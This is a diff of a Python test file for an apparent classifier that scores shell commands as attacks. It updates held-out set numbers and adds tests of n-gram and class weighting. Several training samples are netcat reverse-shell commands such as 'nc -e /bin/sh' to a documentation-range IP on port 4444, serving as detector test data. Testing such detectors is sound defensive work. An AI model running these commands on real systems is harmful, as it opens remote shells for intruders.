@@ -361,17 +361,17 @@ def test_the_training_script_runs_end_to_end_on_a_small_sample(tmp_path: Path) -
     env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
     proc = subprocess.run(
         [sys.executable, str(ROOT / "scripts" / "train_scorer.py"), "--sample", "6",
-         "--forward", "12", "13", "--left-out", "2", "13", "--eco-folds", "3", "--set-folds",
-         "12", "13", "--out", str(out),
+         "--forward", "18", "19", "--left-out", "2", "19", "--eco-folds", "3", "--set-folds",
+         "18", "19", "--out", str(out),
          "--json"],
         env=env, capture_output=True, text=True, timeout=600, check=False,
     )  # fmt: skip
     assert proc.returncode == 0, proc.stderr[-3000:]
     tables = json.loads(proc.stdout)
-    assert [r["set"] for r in tables["forward"]] == ["12", "13"]
-    assert [r["set"] for r in tables["loso"]] == ["2", "13"]  # the newest set is among them
+    assert [r["set"] for r in tables["forward"]] == ["18", "19"]
+    assert [r["set"] for r in tables["loso"]] == ["2", "19"]  # the newest set is among them
     assert [r["set"] for r in tables["ecosystem"]] == ["eco0", "eco1", "eco2"]
-    assert [r["set"] for r in tables["sets"]] == ["set12", "set13"]
+    assert [r["set"] for r in tables["sets"]] == ["set18", "set19"]
     for r in tables["forward"] + tables["loso"] + tables["ecosystem"] + tables["sets"]:
         assert r["both_detect"] >= max(r["rules_detect"], r["scorer_detect"])
         assert r["both_fp"] >= r["added_fp"]
@@ -380,9 +380,10 @@ def test_the_training_script_runs_end_to_end_on_a_small_sample(tmp_path: Path) -
     assert model.meta["forward"] == tables["forward"]
     # the margin is chosen on the leave-ecosystems-out and set-and-tools-out folds
     eco = [r["added_fp"] for r in tables["ecosystem"] + tables["sets"]]
-    assert max(eco) <= 0.004 or model.meta["training"]["margin"] == 5.0
-    assert "heldout13" in json.dumps(model.meta["training"])  # set 13 is in-sample now
-    assert "heldout14" not in json.dumps(model.meta["training"])  # the fresh set is not read
+    margins: Any = _train_scorer_module()
+    assert max(eco) <= 0.004 or model.meta["training"]["margin"] == margins.MARGINS[-1]
+    assert "heldout19" in json.dumps(model.meta["training"])  # set 19 is in-sample now
+    assert "heldout20" not in json.dumps(model.meta["training"])  # the fresh set is not read
     # a sample never passes the ship check: the shipped path is refused
     assert "trained on a sample" in model.meta["training"]["ship_check"]
     assert isinstance(model.score(ATTACKS[0]).value, float)
@@ -406,9 +407,9 @@ def test_the_everyday_lines_name_their_class_and_the_set_they_were_written_from(
     ts: Any = _train_scorer_module()
     sets = {name for name, *_ in ts.SETS}
     assert all(name == "dev" or int(name) < ts.FRESH for name in sets)  # never the fresh set
-    # set 14 is being built: nothing of it (nor later) is read; set 13 is in-sample now
-    assert ts.FRESH == 14 and "13" in sets
-    assert not any(f and f.startswith("heldout14") for _, *files in ts.SETS for f in files)
+    # set 20 is being built: nothing of it (nor later) is read; set 19 is in-sample now
+    assert ts.FRESH == 20 and "19" in sets
+    assert not any(f and f.startswith("heldout20") for _, *files in ts.SETS for f in files)
     malicious = {
         " ".join(str(json.loads(line).get("command", "")).split()).lower()
         for path in (ROOT / "src" / "corral" / "monitor" / "corpus").glob("*.jsonl")
@@ -584,6 +585,33 @@ def test_without_ngrams_a_token_training_never_saw_weighs_nothing() -> None:
     assert not any(f.startswith(b"g:") for f in model.weights)
     # an unknown word that shares every n-gram of a known attack word pushes nothing
     assert model.score("ncat -e").value == model.score("zzz -e").value
+
+
+def test_with_ngrams_lower_only_an_unknown_word_raises_no_score() -> None:
+    pytest.importorskip("sklearn", reason="training needs the 'train' extra (scikit-learn)")
+    ts: Any = _train_scorer_module()
+    items = [ts.Item(g, 1, f"nc -e /bin/sh 203.0.113.{n} 4444") for n, g in enumerate("123")]
+    items += [ts.Item("breadth", 0, line) for line in ("ls -la", "git status", "make test")]
+    train = list(range(len(items)))
+    free = ts.Trainer(items).fit(train)
+    assert any(w > 0 for f, w in free.weights.items() if f.startswith(b"g:"))
+    lower = ts.Trainer(items, ngram_positive=False).fit(train)
+    assert not any(w > 0 for f, w in lower.weights.items() if f.startswith(b"g:"))
+    assert any(w > 0 for f, w in lower.weights.items() if f.startswith((b"t:", b"c:")))
+    # what an unknown word sharing a known attack word's n-grams adds through them
+    grams = {f for f in ts.line_features("/bin/shq -e") if f.startswith(b"g:")}
+    assert sum(free.weights.get(f, 0.0) for f in grams) > 0
+    assert sum(lower.weights.get(f, 0.0) for f in grams) <= 0
+
+
+def test_a_heavier_benign_class_weighs_more_against_an_attack() -> None:
+    ts: Any = _train_scorer_module()
+    items = [ts.Item("2", 1, "nc -e /bin/sh x"), ts.Item("breadth", 0, "ls"),
+             ts.Item("breadth", 0, "pwd")]  # fmt: skip
+    for benign in (1.0, 4.0):
+        w = ts.sample_weights(items, benign)
+        assert w[1] + w[2] == pytest.approx(benign * w[0])
+    assert list(ts.sample_weights(items)) == list(ts.sample_weights(items, ts.BENIGN))
 
 
 def test_the_ship_check_names_what_keeps_a_model_from_shipping() -> None:
